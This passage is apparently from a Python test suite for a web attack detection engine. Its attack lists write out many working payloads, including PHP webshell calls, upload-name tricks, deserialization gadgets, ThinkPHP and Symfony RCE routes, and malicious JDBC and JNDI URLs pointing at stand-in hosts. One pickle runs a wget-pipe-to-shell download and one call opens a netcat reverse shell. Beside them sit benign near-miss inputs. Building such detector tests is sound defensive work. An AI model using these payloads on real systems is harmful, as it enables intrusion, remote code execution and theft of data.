    ("q", "new SplFileObject"), ("form", "`npm run build` (in the repo)"), ("q", "named arguments php 8 command: value"),
    ("q", "first class callable syntax strlen(...)"), ("q", "f(...) in python args"), 
]

# A third batch (common webshell idioms, upload-name tricks `;.jpg` / `::$DATA`, bitwise-NOT names), written after
# R3B's fix: 27 / 30 caught before round 3 and on R3B's fix, 0 / 21 benign flagged.
R3C_ATTACKS = [
    ("933100 php open tag r3", "q", "<?=system($_GET[0]);"),
    ("933100 php open tag r3", "form", "{php}echo `id`;{/php}"),
    ("933110 php upload r3", "fname", "shell.php;.jpg"),
    ("933110 php upload r3", "fname", "shell.php::$DATA"),
    ("933110 php upload r3", "fname", "avatar.jpg.php"),
    ("933110 php upload r3", "fname", ".user.ini"),
    ("933110 php upload r3", "fname", "shell.php%00.png"),
    ("933120 php ini directive r3", "path", "-d allow_url_include=1 -d auto_prepend_file=php://input"),
    ("933130 php variables r3", "form", "${\"GLOBALS\"}[\"_GET\"][\"c\"]"),
    ("933130 php variables r3", "json", "\"{$_GET['x']}\""),
    ("933140 php io stream r3", "path", "php://filter/read=convert.base64-encode/resource=index"),
    ("933140 php io stream r3", "q", "PhP://FiLtEr/resource=config.php"),
    ("933160 php high-risk call r3", "q", "exec(\"id\", $o); print_r($o);"),
    ("933160 php high-risk call r3", "form", "echo implode(\"\\n\", file('/etc/passwd'));"),
    ("933160 php high-risk call r3", "q", "var_export(scandir('.'))"),
    ("933160 php high-risk call r3", "q", "die(`whoami`);"),
    ("933160 php high-risk call r3", "cookie", "$c=$_GET[\"c\"];@system($c);"),
    ("933160 php high-risk call r3", "q", "'.phpinfo().'"),
    ("933160 php high-risk call r3", "json", "eval(hex2bin('73797374656d2827696427293b'))"),
    ("933160 php high-risk call r3", "q", "eval(urldecode('%2573ystem(%2527id%2527);'))"),
    ("933160 php high-risk call r3", "hdr", "passthru(base64_decode($_SERVER['HTTP_X']))"),
    ("933160 php high-risk call r3", "q", "system (\"id\")"),
    ("933170 php serialized object r3", "q", 'O:29:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\\0*\\0socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}'),
    ("933170 php serialized object r3", "json", '{"cart":"a:1:{i:0;O:7:\\"Product\\":1:{s:4:\\"name\\";s:1:\\"x\\";}}"}'),
    ("933180 php variable call r3", "q", "$a /*x*/ ( 'id' )"),
    ("933180 php variable call r3", "form", "$x = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $x(\"id\");"),
    ("933180 php variable call r3", "q", "call_user_func($_GET['f'], $_GET['a'])"),
    ("933180 php variable call r3", "json", "array_map('assert', $_GET)"),
    ("933210 php call evasion r3", "q", "(~%8F%97%8F%96%91%99%90)();"),
    ("933210 php call evasion r3", "form", "[$_GET[1], $_GET[2]]()"),
]
R3C_BENIGN = [
    ("fname", "report.final.pdf"), ("fname", "screenshot 2024-05-01 at 10.22.31.png"), ("fname", "ini-settings.txt"),
    ("fname", "user.ini.example.txt"), ("q", "php tags short open"), ("q", "die hard (1988)"), ("q", "exec summary (draft)"),
    ("form", "The exec team (CEO, CFO) met today"), ("q", "implode vs explode"), ("q", "var export php"),
    ("q", "$c = $a + $b"), ("form", "Total: $x (tax incl.)"), ("q", "~ (tilde) key"), ("q", "[1, 2]"),
    ("q", "O'Reilly: Programming PHP (3rd ed.)"), ("q", "a:link color css"), ("q", "filter resource config"),
    ("q", "hex2bin online"), ("q", "urldecode vs rawurldecode"), ("fname", "phpstorm-keymap.pdf"), ("fname", "my.photos.2024.jpg"),
]


# Round 5 (blind batches): Groovy compile-time annotations (`@Grab` from an attacker's repository, `@ASTTest`), .NET
# BinaryFormatter streams in base64 (ysoserial.net, ViewState), JDBC URLs that run code or deserialize, Jackson gadget
# class names, ThinkPHP namespaced-controller routes, and searches for an API name that stay clean. Written before the
# fix and measured on the code before round 5's changes.
def _bf(prefix: bytes, types: str) -> str:
    """A BinaryFormatter stream (header, library record, class record naming `types`) after `prefix`, base64."""
    lib = b"PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"
    body = (b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
            + bytes([len(lib)]) + lib + b"\x05\x01\x00\x00\x00" + bytes([len(types)]) + types.encode() + b"\x01\x00\x00\x00")
    return base64.b64encode(prefix + body).decode()


R5_ATTACKS = [
    ("groovy grab r5", "form", "@GrabResolver(name='r', root='http://203.0.113.9:8080/repo/')\n@Grab(group='evil', module='x', version='1')\nimport Payload"),
    ("groovy grab r5", "q", "@GrabConfig(disableChecksums=true) @Grab('com.attacker:rce:1.0') import Rce;"),
    ("groovy grab r5", "json", "@Grapes([@Grab(group='org.x', module='y', version='1')])\nclass A {}"),
    ("groovy grab r5", "rawq", "sandbox=true&value=%40groovy.transform.ASTTest(value%3D%7B%20new%20File('%2Ftmp%2Fp').text%3D'x'%20%7D)%0Aclass%20X%7B%7D"),
    ("groovy grab r5", "form", "@ASTTest(value={ assert new File('/tmp/pwned').createNewFile() })\ndef x"),
    ("dotnet binaryformatter r5", "form", _bf(b"", "System.Windows.Data.ObjectDataProvider")),
    ("dotnet binaryformatter r5", "cookie", _bf(b"\xff\x01\x32\x80", "System.Security.Claims.ClaimsIdentity")),
    ("dotnet binaryformatter r5", "json", _bf(b"\xff\x01\x32\xc4\x02", "System.Collections.Generic.SortedSet`1")),
    ("dotnet binaryformatter r5", "form", _bf(b"\x01", "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")),
    ("dotnet binaryformatter r5", "q", _bf(b"", "System.Data.DataSet").replace("+", "-").replace("/", "_")),
    ("jdbc url r5", "json", "jdbc:h2:tcp://10.0.0.9/~/x;INIT=RUNSCRIPT FROM 'ftp://203.0.113.3/a.sql'"),
    ("jdbc url r5", "form", "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=1;INIT=CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS '//javascript\nx'"),
    ("jdbc url r5", "json", "jdbc:mysql://203.0.113.5:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&user=yso_CC6_id"),
    ("jdbc url r5", "form", "jdbc:mysql://evil.example:3306/db?allowLoadLocalInfile=true&allowUrlInLocalInfile=true"),
    ("jdbc url r5", "json", "jdbc:postgresql://db/test?loggerLevel=DEBUG&loggerFile=../webapps/ROOT/shell.jsp"),
    ("jdbc url r5", "json", "jdbc:db2://127.0.0.1:50001/BLUDB:clientRerouteServerListJNDIName=ldap://evil.example:1389/a;"),
    ("jackson gadget r5", "rawjson", '["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "ldap://203.0.113.7:1389/Exploit"}]'),
    ("jackson gadget r5", "rawjson", '["com.zaxxer.hikari.HikariConfig", {"metricRegistry": "ldap://x.example:1389/a"}]'),
    ("jackson gadget r5", "rawjson", '["org.apache.commons.dbcp2.datasources.SharedPoolDataSource", {"dataSourceName": "ldap://x.example/a"}]'),
    ("jackson gadget r5", "rawjson", '{"obj": ["org.apache.ibatis.datasource.jndi.JndiDataSourceFactory", {"properties": {"data_source": "ldap://x.example/a"}}]}'),
    ("thinkphp route r5", "rawq", "s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1"),
    ("thinkphp route r5", "rawq", "s=index/\\think\\Request/input&filter=system&data=id"),
    ("thinkphp route r5", "rawq", "s=index/\\think\\template\\driver\\file/write&cacheFile=shell.php&content=x"),
    ("thinkphp route r5", "rawq", "s=index/\\think\\view\\driver\\Php/display&content=x"),
    ("thinkphp route r5", "rawq", "s=index/think\\app/invokefunction&function=phpinfo&vars[0]=100"),
    ("thinkphp route r5", "rawq", "s=/Index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=ls"),
    # the code-search exemption below must not open the calls themselves
    ("python call r5", "q", 'os.system("id")'),
    ("python call r5", "q", '";os.system("id");"'),
    ("python call r5", "form", '"subprocess.run(" + cmd + ", shell=True)"'),
    ("python call r5", "json", "subprocess.check_output(['cat','/etc/passwd'])"),
    ("python call r5", "q", "'os.system(\"id\")'"),
    ("python call r5", "cookie", '"os.popen(\'whoami\').read()"'),
    ("php call r5", "q", "'.system('id').'"), ("php call r5", "form", '".passthru("cat /etc/passwd")."'),
    ("php call r5", "q", "1;$x.popen('id','r');"),
    ("php call r5", "q", "1;a.popen(' id','r');"),
    ("dotnet process r5", "form", "@{ new System.Diagnostics.ProcessStartInfo(\"powershell\") }"),
]
R5_BENIGN = [
    ("q", '"os.system(" path:*.py'), ("q", "'os.popen(' deprecated replacement"),
    ("q", 'repo:acme/api "subprocess.check_output(" language:Python'),
    ("form", 'Semgrep found "subprocess.run(" with shell=True in 3 files'), ("q", '"os.spawnlp(" example'),
    ("q", "System.Diagnostics.Process class members"), ("q", "@Grab annotation groovy"), ("q", "grape @GrabResolver"), ("form", "the @ASTTest docs are thin"),
    ("form", "/wEPDwUKLTIwNjQ2NjQ0MmRkZnN0YXRlX3ZhbHVlX2hlcmU="), ("form", "/wEWAgKL7dzCCAKM54rGBg=="),
    ("q", "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1"), ("json", "jdbc:mysql://db.internal:3306/shop?useSSL=true&serverTimezone=UTC"),
    ("json", "jdbc:postgresql://localhost:5432/app?sslmode=require"),
    ("form", "spring.datasource.url=jdbc:h2:file:./data/demo;AUTO_SERVER=TRUE;INIT=RUNSCRIPT FROM './schema.sql'"),
    ("json", "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'classpath:schema.sql'"),
    ("json", "ch.qos.logback.classic.Logger"), ("rawq", "s=index/user/login"), ("q", "think\\app invokefunction exploit"),
]


# Round 6 (second blind batches): Ruby Marshal session cookies with gadget classes, Python pickles calling os / posix /
# subprocess, node-serialize function markers, a XAML ObjectDataProvider starting a Process, Symfony's fragment renderer
# pointed at a PHP function, log lines forged after a line break in a one-word field; beside Rails' own Marshal
# sessions, list-form subprocess calls in code answers, GraphQL operation variables and pasted logs. Written before the
# fix and measured on the code before round 6's changes (numbers in the round's report).
def _marshal(body: bytes) -> str:
    return base64.b64encode(b"\x04\x08" + body).decode()


def _pickle(text: bytes) -> str:
    return base64.b64encode(text).decode()


R6_ATTACKS = [
    ("ruby marshal r6", "cookie", _marshal(b"o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x07:\x0e@instanceo:\x08ERB\x06:\t@srcI\"\x0f`id > /tmp/x`\x06:\x06ET")),
    ("ruby marshal r6", "form", _marshal(b"[\x07o:\x15Gem::SpecFetcher\x00o:\x15Gem::Requirement\x06:\x10@requirementsU:\x1bGem::StubSpecification")),
    ("ruby marshal r6", "q", _marshal(b"U:\x15Gem::Requirement[\x06o:\x18Gem::Package::TarReader\x06:\x08@ioo:\x14Net::BufferedIO")),
    ("ruby marshal r6", "json", _marshal(b"o:\x13Gem::Installer\x00o:\x16Net::WriteAdapter\x07:\x0c@socketo:\x14Gem::RequestSet")),
    ("ruby marshal r6", "cookie", _marshal(b"{\x06I\"\x0fsession_id\x06:\x06ETo:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x06:\x0e@instanceo:\x08ERB") + "--0123456789abcdef0123456789abcdef01234567"),
    ("ruby marshal r6", "form", "\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x06:\x0e@instanceo:\x08ERB"),
    ("python pickle r6", "cookie", _pickle(b"cos\nsystem\n(S'id'\ntR.")),
    ("python pickle r6", "form", _pickle(b"cposix\nsystem\n(Vwget http://203.0.113.9/x -O- | sh\ntR.")),
    ("python pickle r6", "q", _pickle(b"csubprocess\ncheck_output\n((lp0\nS'id'\natR.")),
    ("python pickle r6", "json", _pickle(b"\x80\x02cbuiltins\neval\nq\x00X\x1c\x00\x00\x00__import__('os').system('id')q\x01\x85q\x02Rq\x03.")),
    ("python pickle r6", "form", "cos\nsystem\n(S'nslookup x.oast.example'\ntR."),
    ("python pickle r6", "cookie", _pickle(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.")),
    ("python pickle r6", "b64", "cnt\nsystem\n(Vcalc.exe\ntR."),
    ("node serialize r6", "cookie", base64.b64encode(b'{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}').decode()),
    ("node serialize r6", "json", '{"user":"_$$ND_FUNC$$_function (){ return require(\'os\').hostname() }()"}'),
    ("node serialize r6", "form", "_$$ND_FUNC$$_function(){eval(String.fromCharCode(105,100))}()"),
    ("xaml process r6", "xml", '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:d="clr-namespace:System.Diagnostics;assembly=System"><ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><sys:String xmlns:sys="clr-namespace:System;assembly=mscorlib">calc</sys:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>'),
    ("xaml process r6", "xml", '<ObjectDataProvider xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" ObjectType = "{ x:Type  Diag:ProcessStartInfo }" MethodName="Start"/>'),
    ("xaml process r6", "form", '{x:Type sd:Process}'),
    ("xaml process r6", "json", '<ObjectDataProvider ObjectType="{x:Type Process}" MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"/>'),
    ("symfony fragment r6", "rawq", "_path=_controller%3Dsystem%26command%3Dwhoami%26return_value%3Dnull&_hash=abc"),
    ("symfony fragment r6", "rawq", "_path=_controller%3Dpassthru%26command%3Dcat%2B%2Fetc%2Fpasswd&_hash=x"),
    ("symfony fragment r6", "q", "_controller=shell_exec&cmd=id"),
    ("symfony fragment r6", "rawq", "_path=_controller%3Dphpinfo%26what%3D-1&_hash=Zm9v"),
    ("symfony fragment r6", "rawq", "_path=_controller%3Dfile_put_contents%26filename%3Dx.php%26data%3Dhi&_hash=q"),
    ("symfony fragment r6", "rawq", "_path=_controller%3D%5Csystem%26command%3Did&_hash=q"),
    ("symfony fragment r6", "json", '{"_controller": "assert", "assertion": "1"}'),
    ("crlf log forging r6", "q", "guest\r\n2024-06-01 12:00:00 INFO user=admin action=login result=success"),
    ("crlf log forging r6", "form", "admin\n2024-06-01T12:00:00Z WARN login failed for user=root"),
    ("crlf log forging r6", "json", "bob\r\n[2024-06-01 12:00:00] ERROR payment refunded order=991"),
    ("crlf log forging r6", "form", "x\n127.0.0.1 - - [01/Jun/2024:12:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("crlf log forging r6", "q", "alice\r\nINFO 2024-06-01 12:00:00,123 user admin logged in"),
    ("crlf log forging r6", "hdr", "1.0\r2024-06-01 12:00:00 CRITICAL database dropped"),
    ("crlf log forging r6", "form", "guest\nJun  1 12:00:00 web01 sshd[812]: Accepted password for root from 10.0.0.1 port 22"),
    ("crlf log forging r6", "json", "carol\n\n2024/06/01 12:00:00 [notice] user=admin granted role=superuser"),
    ("python call r6", "q", "subprocess.check_output(['id'])"), ("python call r6", "form", "subprocess.run(['sh','-c','id'])"),
    ("python call r6", "json", "os.popen(__import__('base64').b64decode('aWQ=').decode()).read()"),
    ("python call r6", "q", "subprocess.Popen(('nc', '203.0.113.9', '4444', '-e', '/bin/sh'))"),
    ("php call r6", "q", "rename($_GET['a'], 'x.php')"), ("php call r6", "form", "unlink($f);"),
    ("php call r6", "q", "system($c)"),
]
R6_BENIGN = [
    ("json", "subprocess.run([\"convert\", src, dst], check=True)  # argv list, no shell"),
    ("form", "subprocess.run(argv, check=True, timeout=30)"),
    ("json", "proc = subprocess.Popen([exe, \"-p\", port_arg], stdout=subprocess.PIPE)"),
    ("q", "subprocess.check_output(args, text=True) example"), ("json", "out = subprocess.check_output(argv)"),
    ("json", "rc = subprocess.call([sys.executable, \"-m\", \"pip\", \"install\", pkg])"),
    ("json", "mutation Rename($id: ID!, $name: String!) { renameItem(id: $id, name: $name) { id } }"),
    ("json", "query Copy($from: ID!) { copy(from: $from) { id } }"),
    ("json", "mutation Unlink($acct: ID!) { unlinkAccount(id: $acct) { ok } }"),
    ("json", "mutation Rename($input: RenameInput!) { rename(input: $input) { path } }"),
    ("cookie", base64.b64encode(b"\x04\x08{\x07I\"\x0fsession_id\x06:\x06ETI\"%0123456789abcdef0123456789abcdef\x06;\x00TI\"\x10_csrf_token\x06;\x00FI\"1abc\x06;\x00F").decode()),
    ("cookie", base64.b64encode(b"\x04\x08{\x06I\"\x0cuser_id\x06:\x06ETi\x02\xd2\x04").decode() + "--3b1c9e8f2a7d6c5b4a39281706f5e4d3c2b1a098"),
    ("form", base64.b64encode(b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x04cart\x94]\x94s.").decode()),
    ("q", "python pickle cos system exploit explained"), ("q", "ERB gadget ruby marshal"),
    ("q", "Gem::Requirement"),
    ("xml", '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml"><Style x:Key="b" TargetType="{x:Type Button}"/><ObjectDataProvider x:Key="e" ObjectType="{x:Type sys:Enum}" MethodName="GetValues"/></ResourceDictionary>'),
    ("q", "x:Type Process in XAML"),
    ("q", "_controller=App\\Controller\\HomeController::index"), ("q", "_controller=app.controller.home:indexAction"),
    ("q", "symfony _controller attribute"), ("q", "_controller: AppBundle:Default:index"),
    ("form", "The export failed last night.\n2024-06-01 02:00:13 ERROR job=export timeout after 300s\nCan you check?"),
    ("json", "2024-06-01 12:00:00 INFO starting worker\n2024-06-01 12:00:01 INFO ready"),
    ("form", "Logs:\n2024-06-01 12:00:00 ERROR disk full"), ("form", "Hi,\n2024-06-01 works for me, 10:00 or 14:00?"),
    ("form", "Agenda\n2024-06-01 12:00 kickoff\n2024-06-02 09:00 review"),
]

# Round 9 (blind round 5): `{{ $t('key') }}` -- a `$`-helper called right inside a `{{ … }}` binding (Vue i18n, Angular)
# is template code; PHP cannot parse `{{ $f('x') }}` (no `;` before `}`), so php:variable_call skips `$name(` right after
# `{{`. Near-misses: a `;` inside the braces, one brace (PHP's `{$f('x')}` interpolation), `$` later in the binding,
# superglobals. Measured before: 8 / 8 attacks caught, 4 / 6 benign flagged; after: 8 / 8, 0 / 6.
R9_ATTACKS = [
    ("php variable call r9", "q", "{{ $f('system'); }}"), ("php variable call r9", "q", '{{$x("id");}}'),
    ("php variable call r9", "q", "{{ $a($_GET['c']) }}"), ("php variable call r9", "q", "{ $f('id'); }"),
    ("php variable call r9", "q", "{$f('id')}"), ("php variable call r9", "q", "${f}('ls')"),
    ("php variable call r9", "json", "{{ x }} $f('id')"), ("php variable call r9", "form", ";$a(\"system\")"),
]
R9_BENIGN = [
    ("json", "<p>{{ $t('cart.empty') }}</p>"), ("form", "<p>{{ $tc('cart.items', count) }}</p>"),
    ("json", "{{ $t(\"nav.home\") }} | {{ $t(\"nav.about\") }}"),
    ("json", "{{ $d(new Date(), 'short') }} - {{ $n(price, 'currency') }}"),
    ("form", "<li>{{ $index + 1 }}. {{ item.name }}</li>"), ("json", "<h1>{{$t('welcome.title')}}</h1>"),
]


# Round 1 (free-form, ATTACKS/BENIGN) and round 2 (one class per CRS rule, then two later batches) stay separate lists
# for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
_ATTACKS = [("", c, v) for c, v in ATTACKS] + CLASS_ATTACKS + BATCH2 + TEMPLATE_EXTRA + R3_ATTACKS + R3B_ATTACKS + R3C_ATTACKS + R5_ATTACKS + R6_ATTACKS + R9_ATTACKS
_NEAR_MISSES = BENIGN + CLASS_BENIGN + BATCH2_BENIGN + TEMPLATE_EXTRA_BENIGN + R3_BENIGN + R3B_BENIGN + R3C_BENIGN + R5_BENIGN + R6_BENIGN + R9_BENIGN


@pytest.mark.parametrize("cls,carrier,value", _ATTACKS, ids=[f"{k}|{c}:{v[:30]}" for k, c, v in _ATTACKS])
def test_code_attack_is_detected(engine, cls, carrier, value):
    assert verdict(engine.inspect(build(carrier, value))) == "attack", cls


@pytest.mark.parametrize("carrier,value", _NEAR_MISSES, ids=_ids(_NEAR_MISSES))
def test_code_benign_near_miss_is_clean(engine, carrier, value):
    hits = [h for h in engine.inspect(build(carrier, value)) if h.score >= THRESHOLD]
    assert not [h for h in hits if h.rule in MINE], [(h.rule, h.point, h.score) for h in hits]
    if (carrier, value) not in OTHER_DETECTORS:
        assert not hits, [(h.rule, h.point, h.score) for h in hits]


def test_round3_sets_are_distinct_and_sized():
    attacks = R3_ATTACKS + R3B_ATTACKS + R3C_ATTACKS
    benign = R3_BENIGN + R3B_BENIGN + R3C_BENIGN
    assert len(set(attacks)) == len(attacks) >= 150
    assert len(set(benign)) == len(benign) >= 110
    earlier = {(c, v) for _k, c, v in CLASS_ATTACKS + BATCH2 + TEMPLATE_EXTRA} | set(ATTACKS)
    assert not {(c, v) for _k, c, v in attacks} & earlier
    assert not set(benign) & set(BENIGN + CLASS_BENIGN + BATCH2_BENIGN + TEMPLATE_EXTRA_BENIGN)
